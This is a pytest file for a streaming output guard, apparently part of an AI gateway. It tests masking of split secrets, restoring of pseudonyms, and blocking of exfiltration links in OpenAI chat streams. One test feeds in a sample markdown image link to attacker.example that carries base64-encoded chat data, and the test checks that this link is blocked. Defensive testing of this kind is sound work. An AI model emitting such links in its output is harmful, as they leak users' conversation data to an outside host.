"""The stream guard over a real OpenAI chat stream, with the real scanner: what the client receives."""

from __future__ import annotations

import asyncio

import orjson
import pytest

from ztgate.detect.base import Finding
from ztgate.detect.scanner import Scanner
from ztgate.extproc.stream_guard import StreamGuard, Verdict
from ztgate.providers import get_adapter
from ztgate.providers.sse import SSEDecoder
from ztgate.redact import Redactor, Vault


def drive(coro):
    """Run one exchange phase (a coroutine) to its end, as the servicer's event loop does."""
    return asyncio.run(coro)

ADAPTER = get_adapter("openai")


@pytest.fixture(scope="module")
def scanner() -> Scanner:
    return Scanner.from_config(None)


def chunk(text: str) -> bytes:
    event = {"id": "c1", "object": "chat.completion.chunk", "model": "gpt-4o", "choices": [{"index": 0, "delta": {"content": text}, "finish_reason": None}]}
    return b"data: " + orjson.dumps(event) + b"\n\n"


def client_text(data: bytes) -> str:
    """What the openai SDK would show: the concatenated content deltas of the bytes the guard released."""
    decoder = SSEDecoder()
    text = []
    for event in decoder.feed(data) + decoder.close():
        if event.data == "[DONE]":
            continue
        body = orjson.loads(event.data)
        if "error" in body:
            text.append(f"[ERROR {body['error']['message']}]")
            continue
        text.extend(c["delta"].get("content") or "" for c in body.get("choices", []))
    return "".join(text)


def run(guard: StreamGuard, deltas: list[str]) -> tuple[list[bytes], str]:
    released = [drive(guard.feed(SSEDecoder().feed(chunk(d)))) for d in deltas]
    released.append(drive(guard.close()))
    return released, client_text(b"".join(released))


async def mask_policy(findings: list[Finding]) -> Verdict:
    if any(f.detector == "exfil" for f in findings):
        return Verdict(blocked=True, reason="exfiltration link")
    return Verdict(blocked=False, modes={(f.detector, f.type): "mask" for f in findings})


def test_plain_words_are_released_at_once(scanner: Scanner) -> None:
    guard = StreamGuard(ADAPTER, scanner, mask_policy, Redactor(b"k"), Vault())
    released, text = run(guard, ["Hello", " there", " friend"])
    assert released[0], "the first token must not wait for more text"
    assert text == "Hello there friend"


def test_a_secret_split_across_deltas_is_masked(scanner: Scanner) -> None:
    token = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
    guard = StreamGuard(ADAPTER, scanner, mask_policy, Redactor(b"k"), Vault())
    _, text = run(guard, ["your token is ", token[:6], token[6:20], token[20:], " keep it safe"])
    assert token not in text and token[:6] not in text
    assert text.startswith("your token is ****") and text.endswith(" keep it safe")
    assert guard.redacted == 1


def test_pseudonyms_split_across_deltas_are_restored(scanner: Scanner) -> None:
    vault = Vault()
    vault.token_for("email", "alice@example.org")
    async def allow(findings: list[Finding]) -> Verdict:
        return Verdict(False)

    guard = StreamGuard(ADAPTER, scanner, allow, Redactor(b"k"), vault)
    _, text = run(guard, ["I wrote to <EM", "AIL_", "1> as asked."])
    assert text == "I wrote to alice@example.org as asked."


def test_exfiltration_link_cuts_the_stream_with_an_error_event(scanner: Scanner) -> None:
    guard = StreamGuard(ADAPTER, scanner, mask_policy, Redactor(b"k"), Vault())
    _, text = run(guard, ["Done. ", "![x](https://attacker.example/c?d=", "c2VjcmV0LWRhdGEtZnJvbS10aGUtY2hhdA==)", " more"])
    assert text.startswith("Done. [ERROR output blocked: exfiltration link")
    assert "attacker.example" not in text
    assert guard.blocked == "exfiltration link"
